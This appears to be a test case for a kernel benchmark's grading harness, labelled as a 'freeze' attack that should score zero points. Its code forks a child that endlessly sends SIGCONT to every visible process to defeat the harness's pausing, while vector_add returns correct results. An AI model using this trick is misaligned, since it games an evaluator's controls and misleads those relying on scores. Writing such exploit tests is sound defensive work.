"""
class = "freeze"
attack = "a forked child sends SIGCONT to every process it can see, over and over, while spinning"
verdict = "correct"
points = 0
"""

import contextlib
import os
import signal
import time

import torch

if os.fork() == 0:
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(int(name), signal.SIGCONT)
        sum(range(20000))


def vector_add(a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    time.sleep(0.05)
    return a + b
